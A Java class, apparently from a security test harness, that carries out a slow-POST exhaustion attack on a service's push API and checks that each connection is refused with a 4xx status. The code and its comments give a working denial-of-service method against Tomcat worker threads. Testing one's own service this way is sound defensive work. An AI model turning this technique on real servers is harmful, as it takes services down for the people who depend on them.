package dev.lifeline.attack.exhaustion;

import dev.lifeline.attack.Field;
import dev.lifeline.attack.SimpleAttack;
import dev.lifeline.attack.wire.Request;
import dev.lifeline.attack.wire.Wire;
import java.io.IOException;
import java.time.Duration;

/** Pushes without a key, whose bodies do not come. */
public final class SlowPosts extends SimpleAttack {

    /** More than a stock Tomcat has threads. */
    private static final int THROUGH_NGINX = 250;

    /**
     * Half of its threads: Tomcat reads the rest of a body that it was not asked for on one of them, whatever the web
     * application has answered. Whoever reaches Tomcat without a proxy can so take them all.
     */
    private static final int DIRECTLY = 100;

    public SlowPosts() {
        super(
                "slow posts",
                "250 connections (100 without nginx) post to the push API without a key, announce a megabyte, and send a byte of"
                        + " it a second",
                "answered 401, by nginx 404");
    }

    @Override
    public void run(Field field) throws IOException {
        Request request = Request.of("POST", "/api/v1/push")
                .with("Host: " + field.target().host())
                .with("Content-Type: application/json")
                .with("Content-Length: 1000000")
                .body("{");
        int connections = field.target().proxied() ? THROUGH_NGINX : DIRECTLY;
        try (Crowd crowd = Crowd.of(connections, number -> field.connect())) {
            for (Wire wire : crowd.wires()) {
                field.tally().handshake();
                wire.write(request.bytes());
            }
            crowd.keep(field.size().held(), Duration.ofSeconds(1), wire -> wire.write(new byte[] {' '}));
            for (Wire wire : crowd.wires()) {
                int status = wire.status();
                boolean refused = status >= 400 && status < 500;
                field.judge(refused, "answered " + status, "a post without a key");
            }
        }
    }
}
